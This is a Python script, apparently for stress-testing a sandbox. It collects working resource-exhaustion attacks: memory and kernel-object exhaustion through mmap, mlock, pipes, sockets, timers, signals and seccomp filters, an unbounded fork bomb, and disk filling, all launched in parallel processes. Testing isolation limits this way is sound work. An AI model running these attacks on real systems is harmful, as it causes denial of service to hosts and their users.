"""Attacks that take memory, processes or disk as fast as they can. Run in a sandbox: `python attacks.py NAME`.

Each runs in several processes at once until it is refused, and then holds what it has. Most memory is the kernel's own,
which is in no process's address space.
"""

import contextlib
import ctypes
import errno
import mmap
import os
import resource
import select
import signal
import socket
import struct
import sys
import threading
import time
from pathlib import Path

PROCESSES = 12
HOLD_SECONDS = 2.0
MEGABYTE = 1 << 20
PAGE = mmap.PAGESIZE
LIBC = ctypes.CDLL(None, use_errno=True)
LIBC.mmap.restype = ctypes.c_void_p
LIBC.mmap.argtypes = (ctypes.c_void_p, ctypes.c_size_t, *(ctypes.c_int,) * 3, ctypes.c_long)
NO_ADDRESS = (1 << 64) - 1
PR_SET_NO_NEW_PRIVS, PR_SET_SECCOMP, SECCOMP_FILTER = 38, 22, 2
SYS_TIMER_CREATE, SYS_EVENTFD2, SYS_TIMERFD_CREATE, SYS_PIDFD_OPEN = 222, 290, 283, 434
DESCRIPTORS = 240
SPARSE_BYTES, MAP_NORESERVE = 8 << 30, 0x4000


def _map(size: int, kind: int, descriptor: int = -1) -> int:
    place = LIBC.mmap(None, size, mmap.PROT_READ | mmap.PROT_WRITE, kind, descriptor, 0)
    if place == NO_ADDRESS:
        raise OSError(ctypes.get_errno(), "mmap")
    return int(place)


def _scratch(name: str) -> str:
    return f"{os.environ['HOME']}/{name}-{os.getpid()}"


def take_private_memory() -> object:
    return [bytearray(b"x") * MEGABYTE for _ in range(4096)]


def take_shared_memory() -> object:
    held = []
    while True:
        held.append(_map(8 * MEGABYTE, mmap.MAP_SHARED | mmap.MAP_ANONYMOUS))
        ctypes.memset(held[-1], 1, 8 * MEGABYTE)


def lock_memory() -> object:
    held = []
    while True:
        held.append(_map(MEGABYTE, mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS))
        LIBC.mlock(ctypes.c_void_p(held[-1]), ctypes.c_size_t(MEGABYTE))
        ctypes.memset(held[-1], 1, MEGABYTE)


def split_mappings() -> object:
    """Take a vm_area_struct for each second page."""
    pages = 60_000
    place = _map(pages * PAGE, mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS)
    for page in range(place, place + pages * PAGE, 2 * PAGE):
        LIBC.mprotect(ctypes.c_void_p(page), ctypes.c_size_t(PAGE), mmap.PROT_READ)
    return place


def touch_sparse_pages() -> object:
    """Take a page table of 4 KB for each page that is read (which is the zero page)."""
    place = _map(SPARSE_BYTES, mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | MAP_NORESERVE)
    for page in range(place, place + SPARSE_BYTES, 2 * MEGABYTE):
        ctypes.c_char.from_address(page).value  # noqa: B018
    return place


def watch_by_epoll() -> object:
    """Take an epitem for each pair of an epoll and a file."""
    ends = [end for _ in range(100) for end in os.pipe()]
    polls = []
    with contextlib.suppress(OSError):
        while True:
            polls.append(select.epoll())
            for end in ends:
                polls[-1].register(end, select.EPOLLIN)
    return ends, polls


def fill_pipes() -> object:
    held = []
    with contextlib.suppress(OSError):
        while True:
            ends = os.pipe()
            held.append(ends)
            os.set_blocking(ends[1], False)
            with contextlib.suppress(BlockingIOError):
                while True:
                    os.write(ends[1], bytes(65536))
    return held


def enlarge_pipes() -> object:
    import fcntl

    held = []
    with contextlib.suppress(OSError):
        while True:
            ends = os.pipe()
            held.append(ends)
            with contextlib.suppress(OSError):
                fcntl.fcntl(ends[1], 1031, MEGABYTE)
            os.set_blocking(ends[1], False)
            with contextlib.suppress(BlockingIOError):
                while True:
                    os.write(ends[1], bytes(65536))
    return held


def fill_socket_pairs() -> object:
    held = []
    with contextlib.suppress(OSError):
        while True:
            for end in socket.socketpair():
                held.append(end)
                end.setblocking(False)
                with contextlib.suppress(BlockingIOError):
                    while True:
                        end.send(bytes(65536))
    return held


def fill_socket_pairs_with_small_messages() -> object:
    """Of a message of a byte the kernel takes hundreds."""
    held = []
    with contextlib.suppress(OSError):
        while True:
            for end in socket.socketpair(socket.AF_UNIX, socket.SOCK_SEQPACKET):
                held.append(end)
                end.setblocking(False)
                with contextlib.suppress(BlockingIOError):
                    while True:
                        end.send(b"x")
    return held


def open_files() -> object:
    return [os.open("/dev/null", os.O_RDONLY) for _ in range(DESCRIPTORS)]


def create_eventfds() -> object:
    return [LIBC.syscall(SYS_EVENTFD2, 0, 0) for _ in range(DESCRIPTORS)]


def create_timerfds() -> object:
    return [LIBC.syscall(SYS_TIMERFD_CREATE, 1, 0) for _ in range(DESCRIPTORS)]


def create_timers() -> object:
    """Take a k_itimer and a sigqueue for each timer."""
    number = ctypes.c_int()
    count = 0
    while LIBC.syscall(SYS_TIMER_CREATE, 1, None, ctypes.byref(number)) == 0:
        count += 1
    return count


def queue_signals() -> object:
    signal.pthread_sigmask(signal.SIG_BLOCK, range(signal.SIGRTMIN, signal.SIGRTMAX))
    info = struct.pack("iiiiiiQ", 35, 0, -1, 0, os.getpid(), os.getuid(), 0).ljust(128, b"\0")
    with contextlib.suppress(OSError):
        while LIBC.syscall(129, os.getpid(), 35, info) == 0:
            pass
    return info


def add_filters() -> object:
    """Take a compiled BPF program for each filter."""
    step = struct.pack("=HBBI", 0x06, 0, 0, 0x7FFF0000)
    load = struct.pack("=HBBI", 0x20, 0, 0, 0)
    text = ctypes.create_string_buffer(load * 4000 + step)
    program = ctypes.create_string_buffer(struct.pack("HxxxxxxP", 4001, ctypes.addressof(text)))
    LIBC.prctl(PR_SET_NO_NEW_PRIVS, 1, 0, 0, 0)
    while LIBC.prctl(PR_SET_SECCOMP, SECCOMP_FILTER, program, 0, 0) == 0:
        pass
    return program


def lock_bytes_of_files() -> object:
    """Take a file_lock for each second byte."""
    import fcntl

    held = os.open(_scratch("locked"), os.O_RDWR | os.O_CREAT)
    for place in range(0, 1 << 20, 2):
        fcntl.lockf(held, fcntl.LOCK_EX | fcntl.LOCK_NB, 1, place)
    return held


def look_for_missing_names() -> object:
    """Take a negative dentry for each name."""
    until = time.monotonic() + 3
    number = 0
    while time.monotonic() < until:
        number += 1
        with contextlib.suppress(OSError):
            Path(_scratch(f"missing-{number}-{'x' * 150}")).stat()
    return number


def start_threads() -> object:
    threading.stack_size(1 << 16)
    event = threading.Event()
    with contextlib.suppress(RuntimeError):
        while True:
            threading.Thread(target=event.wait, daemon=True).start()
    return event


def fork_without_end() -> object:
    while True:
        with contextlib.suppress(OSError):
            os.fork()


def fork_daemons() -> object:
    """Leave the session and the parent at each step."""
    end = time.monotonic() + 10
    while time.monotonic() < end:
        with contextlib.suppress(OSError):
            if os.fork():
                time.sleep(0.001)
            else:
                os.setsid()
    os._exit(0)


def write_files() -> object:
    number = 0
    while True:
        number += 1
        _write(_scratch(f"file-{number}"))


def write_removed_files() -> object:
    held = []
    while True:
        path = _scratch(f"removed-{len(held)}")
        held.append(_write(path))
        Path(path).unlink()


def write_files_that_are_mapped_alone() -> object:
    held = []
    while True:
        path = _scratch(f"mapped-{len(held)}")
        descriptor = os.open(path, os.O_RDWR | os.O_CREAT)
        Path(path).unlink()
        os.ftruncate(descriptor, 3 * MEGABYTE)
        held.append(_map(3 * MEGABYTE, mmap.MAP_SHARED, descriptor))
        os.close(descriptor)
        ctypes.memset(held[-1], 1, 3 * MEGABYTE)


def write_temporary_files() -> object:
    number = 0
    while True:
        number += 1
        _write(f"/tmp/file-{os.getpid()}-{number}")


def reserve_space() -> object:
    number = 0
    while True:
        number += 1
        descriptor = os.open(_scratch(f"reserved-{number}"), os.O_RDWR | os.O_CREAT)
        os.posix_fallocate(descriptor, 0, 3 * MEGABYTE)
        os.close(descriptor)


def create_empty_files() -> object:
    number = 0
    while True:
        number += 1
        os.close(os.open(_scratch(f"empty-{number}"), os.O_CREAT))


def create_directories() -> object:
    number = 0
    while True:
        number += 1
        Path(_scratch(f"directory-{number}")).mkdir()


def _write(path: str) -> int:
    descriptor = os.open(path, os.O_RDWR | os.O_CREAT)
    for _ in range(3):
        os.write(descriptor, b"x" * MEGABYTE)
    if "removed" not in path:
        os.close(descriptor)
    return descriptor


MEMORY = (
    take_private_memory,
    take_shared_memory,
    lock_memory,
    split_mappings,
    touch_sparse_pages,
    watch_by_epoll,
    fill_pipes,
    enlarge_pipes,
    fill_socket_pairs,
    fill_socket_pairs_with_small_messages,
    open_files,
    create_eventfds,
    create_timerfds,
    create_timers,
    queue_signals,
    add_filters,
    lock_bytes_of_files,
    look_for_missing_names,
)
FORKS = (start_threads, fork_without_end, fork_daemons)
DISK = (
    write_files,
    write_removed_files,
    write_files_that_are_mapped_alone,
    write_temporary_files,
    reserve_space,
    create_empty_files,
    create_directories,
)
ATTACKS = {attack.__name__: attack for attack in (*MEMORY, *FORKS, *DISK)}


def main() -> None:
    resource.setrlimit(resource.RLIMIT_NOFILE, (resource.getrlimit(resource.RLIMIT_NOFILE)[1],) * 2)
    attack = ATTACKS[sys.argv[1]]
    for _ in range(int(sys.argv[2])):
        try:
            if os.fork():
                continue
        except OSError as error:
            if error.errno != errno.EAGAIN:
                raise
            break
        held = None
        with contextlib.suppress(OSError, MemoryError):
            held = attack()
        time.sleep(HOLD_SECONDS)
        os._exit(0 if held is None else 1)
    with contextlib.suppress(OSError):
        while True:
            os.wait()


if __name__ == "__main__":
    main()
